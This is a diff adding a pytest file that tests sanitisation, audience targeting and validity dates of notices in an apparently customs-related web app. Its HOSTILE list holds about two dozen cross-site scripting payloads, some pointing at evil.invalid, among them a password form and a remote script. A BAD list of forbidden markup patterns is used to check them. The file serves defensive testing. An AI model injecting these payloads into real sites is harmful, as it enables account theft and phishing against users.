@@ -1,0 +1,146 @@
+"""Notices: hostile text is cleaned at save, and only those a notice is meant for see it, while it is in force."""
+
+from __future__ import annotations
+
+from datetime import date, timedelta
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from app.extensions import db
+from app.models import Notice, Organisation
+from app.models.base import utc_now
+from app.services import notices, notices_admin, rich_text
+from app.views.rich_text import rich_text as shown
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+    from app.domain.actor import Actor
+
+    ActorOf = Callable[[str], Actor]
+
+TODAY = date(2026, 11, 25)
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<p>a</p><SCRIPT src=//evil.invalid/x.js></SCRIPT>",
+    "<p onclick=alert(1)>a</p>",
+    "<p style='position:fixed'>a</p><style>*{display:none}</style>",
+    "<a href='javascript:alert(1)'>a</a>",
+    "<a href=' java&#x09;script:alert(1)'>a</a>",
+    "<a href='JaVaScRiPt:alert(1)'>a</a>",
+    "<a href='vbscript:x'>a</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
+    "<a href='//evil.invalid'>a</a>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<iframe src='https://evil.invalid'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='data:text/html,x'></object><embed src=x>",
+    "<form action='https://evil.invalid'><input name=password><button>a</button></form>",
+    "<base href='https://evil.invalid/'><meta http-equiv=refresh content='0;url=https://evil.invalid'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<p id=main class=flash>a</p>",
+    "<video><source onerror=alert(1)></video>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "&lt;script&gt;<x>alert(1)",
+)
+BAD = ("<script", "<style", "<svg", "<math", "<img", "<iframe", "<object", "<embed", "<form", "<input", "<base",
+       "<meta", "<video", "<!--", " on", "style=", "class=", "id=", "script:", "data:", "href=")  # fmt: skip
+
+
+def notice(actor: Actor, **values: Any) -> Notice:
+    """Write a notice in force for everybody, but for what is given."""
+    told = {"title": "维护（示例）", "text": "今晚", "roles": [], "valid_from": TODAY, "valid_to": None, **values}
+    return notices_admin.create(actor, told, now=utc_now())
+
+
+def seen(actor: Actor, *, today: date = TODAY) -> set[int]:
+    return {reading.notice.id for reading in notices.in_force(actor, today=today)}
+
+
+def organisation(name: str) -> Organisation:
+    """Return the organisation whose name begins so, or the top of the tree."""
+    if name == "top":
+        return db.session.scalars(db.select(Organisation).where(Organisation.parent_id.is_(None))).one()
+    return db.session.scalars(db.select(Organisation).where(Organisation.name.startswith(name))).one()
+
+
+@pytest.mark.function("5.2.7")
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markup_is_neither_stored_nor_shown(actor: ActorOf, text: str) -> None:
+    stored = notice(actor("admin"), text=text).text
+    # what is shown is cleaned again, so a text that came in some other way is no worse
+    for html in (stored, str(shown(stored)), str(shown(text))):
+        assert [bad for bad in BAD if bad in html.lower()] == []
+
+
+@pytest.mark.function("5.2.7")
+def test_allowed_tags_stay_and_links_are_marked(actor: ActorOf) -> None:
+    text = (
+        "<h3>维护</h3><p><strong>今晚</strong> <em>22:00</em></p><ul><li>一</li></ul>"
+        "<table><tbody><tr><td>1</td></tr></tbody></table>"
+    )
+    link = (
+        '<p><a href="https://www.example.invalid/?a=1&amp;b=2">通知</a> <a href="mailto:a@example.invalid">写信</a></p>'
+    )
+    stored = notice(actor("admin"), text=text + link).text
+    assert stored.startswith(text)
+    assert stored.count('rel="nofollow noopener noreferrer"') == 2
+    assert 'href="mailto:a@example.invalid"' in stored
+    assert rich_text.cleaned(stored) == stored
+
+
+def test_plain_text_stays_as_typed_and_shows_its_line_breaks(actor: ActorOf) -> None:
+    text = "重量 < 30 kg & 体积\n第二行"
+    assert notice(actor("admin"), text=text).text == text
+    assert shown(text) == "重量 &lt; 30 kg &amp; 体积<br>第二行"
+
+
+def test_line_breaks_between_words_of_rich_text_stay() -> None:
+    typed = "第一行\n<strong>第二行</strong>\n<ul>\n<li>一</li>\n</ul>\n末行"
+    assert rich_text.cleaned(typed).count("<br>") == 1
+    assert rich_text.cleaned(rich_text.cleaned(typed)) == rich_text.cleaned(typed)
+    assert rich_text.words("<p>甲</p><p>乙</p>") == "甲 乙"
+
+
+@pytest.mark.function("5.2.7")
+def test_a_changed_notice_is_cleaned_too(actor: ActorOf) -> None:
+    admin = actor("admin")
+    made = notice(admin)
+    told = {"title": "a", "text": "<p onclick=x>明晚</p>", "roles": [], "valid_from": TODAY, "valid_to": None}
+    assert notices_admin.change(admin, made.id, told, version=None, now=utc_now()).text == "<p>明晚</p>"
+
+
+@pytest.mark.function("5.2.7")
+@pytest.mark.parametrize(
+    ("audience", "readers"),
+    [
+        ({}, {"haian.clerk", "haian.admin", "customs.0901"}),
+        ({"roles": ["clerk"]}, {"haian.clerk"}),
+        ({"organisations": ["大连海关"]}, {"customs.0901"}),
+        ({"organisations": ["大连海岸水产"]}, {"haian.clerk", "haian.admin"}),
+        ({"organisations": ["top"]}, {"haian.clerk", "haian.admin", "customs.0901"}),
+        ({"organisations": ["大连海岸水产"], "roles": ["clerk", "reviewer"]}, {"haian.clerk"}),
+        ({"organisations": ["大窑湾海关"]}, set()),
+    ],
+)
+def test_a_notice_reaches_its_roles_and_organisations_with_those_below(
+    actor: ActorOf, audience: dict[str, list[str]], readers: set[str]
+) -> None:
+    admin = actor("admin")
+    ids = [organisation(name).id for name in audience.get("organisations", ())]
+    made = notice(admin, roles=audience.get("roles", []), organisation_ids=ids).id
+    assert {login for login in ("haian.clerk", "haian.admin", "customs.0901") if made in seen(actor(login))} == readers
+
+
+@pytest.mark.function("5.2.7")
+def test_a_notice_is_in_force_from_its_first_to_its_last_day(actor: ActorOf) -> None:
+    admin = actor("admin")
+    made = notice(admin, valid_from=TODAY, valid_to=TODAY + timedelta(days=1)).id
+    days = [offset for offset in (-1, 0, 1, 2) if made in seen(admin, today=TODAY + timedelta(days=offset))]
+    assert days == [0, 1]
